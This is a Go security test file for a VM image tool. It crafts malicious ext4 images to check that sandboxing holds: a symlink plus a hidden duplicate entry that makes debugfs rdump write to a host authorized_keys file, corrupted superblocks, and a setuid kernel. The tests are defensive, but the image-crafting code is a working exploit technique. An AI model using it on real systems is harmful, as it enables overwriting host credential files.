package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"banger/internal/api"
	"banger/internal/disk"
	"banger/internal/ext4"
	"banger/internal/image"
	"banger/internal/image/imagetest"
	"banger/internal/sandbox"
)

// needRootTools skips without root or the tools the attacks craft their
// filesystems with.
func needRootTools(t *testing.T, tools ...string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root: run as root (sudo make test)")
	}
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("no %s: apt-get install e2fsprogs bubblewrap", tool)
		}
	}
}

// debugfsW runs debugfs -w commands on img (the attacker's own tool: a guest
// has debugfs too).
func debugfsW(t *testing.T, img string, cmds []string) {
	t.Helper()
	f := filepath.Join(t.TempDir(), "cmds")
	os.WriteFile(f, []byte(strings.Join(cmds, "\n")+"\n"), 0o644)
	if out, err := exec.Command("debugfs", "-w", "-f", f, img).CombinedOutput(); err != nil {
		t.Fatalf("debugfs: %v\n%s", err, out)
	}
}

// craftRdumpAttack makes an ext4 image whose /root holds `x`, a symlink to
// target, and — in a later directory block, where e2fsck -fy does not look
// for duplicates — a second entry `x` that is a regular file holding
// payload. debugfs's rdump makes the symlink first, then opens "x" to write
// the file and follows the symlink: an arbitrary write wherever it runs.
func craftRdumpAttack(t *testing.T, img, target, payload string) {
	t.Helper()
	if out, err := exec.Command("truncate", "-s", "32M", img).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	// The guest makes its filesystem as it likes: no checksums to redo.
	if out, err := exec.Command("mkfs.ext4", "-q", "-F", "-b", "4096", "-O", "^metadata_csum,^dir_index", img).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	pf := filepath.Join(t.TempDir(), "payload")
	os.WriteFile(pf, []byte(payload), 0o644)
	cmds := []string{"mkdir root", "symlink root/x " + target}
	for i := 0; i < 40; i++ { // long names: the first blocks fill up
		cmds = append(cmds, fmt.Sprintf("write /dev/null root/f%0200d", i))
	}
	for i := 0; i < 150; i++ { // short names fill the blocks' tails
		cmds = append(cmds, fmt.Sprintf("write /dev/null root/s%d", i))
	}
	debugfsW(t, img, append(cmds, "write "+pf+" root/X"))
	// Rename X to x in place: name_len 1, type regular, 'X'.
	b, err := os.ReadFile(img)
	if err != nil {
		t.Fatal(err)
	}
	sym := bytes.Index(b, []byte("\x01\x07x"))
	reg := bytes.Index(b, []byte("\x01\x01X"))
	if sym < 0 || reg < 0 || reg/4096 == sym/4096 {
		t.Fatalf("crafting: entries at %d and %d, want them in different blocks", sym, reg)
	}
	b[reg+2] = 'x'
	if err := os.WriteFile(img, b, 0o644); err != nil {
		t.Fatal(err)
	}
	// e2fsck -fn sees nothing wrong with it.
	if out, err := exec.Command("e2fsck", "-fn", img).CombinedOutput(); err != nil {
		t.Logf("e2fsck -fn on the crafted image: %v\n%s", err, out)
	}
}

// TestAttackRdumpSymlinkWrite: a guest's filesystem whose /root makes
// rdump write through a symlink to a host file (issue 12, item 1), handed
// to the work-seed step that register, promote and heal share. The host
// file outside the staging dir must not change; the seed is made.
func TestAttackRdumpSymlinkWrite(t *testing.T) {
	needRootTools(t, "debugfs", "mkfs.ext4", "e2fsck", "bwrap")
	// World-writable, in a world-writable dir: only the sandbox's own
	// mount namespace keeps the tool away from it.
	victimDir, err := os.MkdirTemp("", "banger-victim-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(victimDir)
	os.Chmod(victimDir, 0o1777)
	victim := filepath.Join(victimDir, "authorized_keys")
	if err := os.WriteFile(victim, []byte("original\n"), 0o666); err != nil {
		t.Fatal(err)
	}
	os.Chmod(victim, 0o666)
	staging := t.TempDir()
	craftRdumpAttack(t, filepath.Join(staging, image.RootfsFile), victim, "PWNED by the guest\n")
	err = image.SeedFromRootfs(context.Background(), staging)
	if b, _ := os.ReadFile(victim); string(b) != "original\n" {
		t.Fatalf("the host file %s outside the staging dir was written through the guest's symlink: %q", victim, b)
	}
	if err != nil {
		t.Fatalf("making the work-seed: %v", err)
	}
	if fi, err := os.Stat(filepath.Join(staging, image.WorkSeedFile)); err != nil || fi.Size() == 0 {
		t.Fatalf("no work-seed: %v", err)
	}
	ents, _ := os.ReadDir(victimDir)
	if len(ents) != 1 {
		t.Errorf("files appeared beside the victim: %v", ents)
	}
}

// auditRuns records every sandboxed tool run until the test ends.
func auditRuns(t *testing.T) *[]sandbox.Record {
	var mu sync.Mutex
	runs := &[]sandbox.Record{}
	old := sandbox.SetAudit(func(r sandbox.Record) {
		mu.Lock()
		defer mu.Unlock()
		*runs = append(*runs, r)
	})
	t.Cleanup(func() { sandbox.SetAudit(old) })
	return runs
}

// requireUnprivileged fails unless there were runs and none held a root id
// or a capability in the host's view.
func requireUnprivileged(t *testing.T, runs []sandbox.Record) {
	t.Helper()
	if len(runs) == 0 {
		t.Fatal("no tool ran in the sandbox")
	}
	for _, r := range runs {
		if !r.Unprivileged() {
			t.Errorf("%v ran with uids %v gids %v CapEff %s", r.Args, r.UIDs, r.GIDs, r.CapEff)
		}
	}
}

// TestAttackCraftedExt4: filesystems a guest crafted — a superblock
// claiming 2^32-1 inodes and blocks, zeroed group descriptors — handed to
// register and to the promote/build capture check: a clear error naming the
// file, and every e2fsprogs run was unprivileged (uids and CapEff of the
// tool's process, read from the host's /proc).
func TestAttackCraftedExt4(t *testing.T) {
	needRootTools(t, "mkfs.ext4", "e2fsck", "bwrap")
	ctx := context.Background()
	for name, corrupt := range map[string]func(b []byte){
		"huge counts": func(b []byte) {
			binary.LittleEndian.PutUint32(b[1024:], 0xffffffff)   // s_inodes_count
			binary.LittleEndian.PutUint32(b[1024+4:], 0xfffffff0) // s_blocks_count_lo
			binary.LittleEndian.PutUint32(b[1024+40:], 0xffffff)  // s_inodes_per_group
		},
		"zeroed descriptors": func(b []byte) { clear(b[4096:8192]) },
	} {
		t.Run(name, func(t *testing.T) {
			runs := auditRuns(t)
			req := imagetest.RegisterFiles(t)
			b, err := os.ReadFile(req.Rootfs)
			if err != nil {
				t.Fatal(err)
			}
			corrupt(b)
			os.WriteFile(req.Rootfs, b, 0o644)
			imagesDir := t.TempDir()
			_, err = image.Register(ctx, imagesDir, req, nil)
			if !api.IsInvalid(err) || !strings.Contains(err.Error(), "--rootfs") {
				t.Fatalf("register of a crafted rootfs: %v, want Invalid naming --rootfs", err)
			}
			t.Logf("register: %v", err)
			if ents, _ := os.ReadDir(imagesDir); len(ents) != 0 {
				t.Errorf("register left %v", ents)
			}
			// The capture check (build, promote; e2fsck -fy may repair
			// from a backup superblock) and a work disk grow: no crash,
			// bounded, unprivileged.
			t.Logf("capture check: %v", ext4.Check(ctx, req.Rootfs))
			t.Logf("work disk grow: %v", disk.Grow(ctx, req.Rootfs, 64<<20))
			requireUnprivileged(t, *runs)
		})
	}
}

// TestAttackKernelOwnership: a guest leaves /boot/vmlinuz owned by uid 1234
// with setuid and setgid bits; the kernel taken out of its rootfs (build's
// and promote's boot set) is root's, mode 0644.
func TestAttackKernelOwnership(t *testing.T) {
	needRootTools(t, "mkfs.ext4", "debugfs", "bwrap")
	img := imagetest.MkfsTree(t, "16M", map[string]string{"boot/vmlinuz-9.9": "kernel"})
	debugfsW(t, img, []string{"sif /boot/vmlinuz-9.9 uid 1234", "sif /boot/vmlinuz-9.9 gid 1234",
		"sif /boot/vmlinuz-9.9 mode 0106777"})
	runs := auditRuns(t)
	dst := filepath.Join(t.TempDir(), "vmlinuz")
	if err := ext4.CopyOut(context.Background(), img, [2]string{"/boot/vmlinuz-9.9", dst}); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(dst)
	if err != nil {
		t.Fatal(err)
	}
	st := fi.Sys().(*syscall.Stat_t)
	if st.Uid != 0 || st.Gid != 0 || fi.Mode() != 0o644 {
		t.Errorf("the extracted kernel is %d:%d %v, want root:root -rw-r--r--", st.Uid, st.Gid, fi.Mode())
	}
	requireUnprivileged(t, *runs)
}
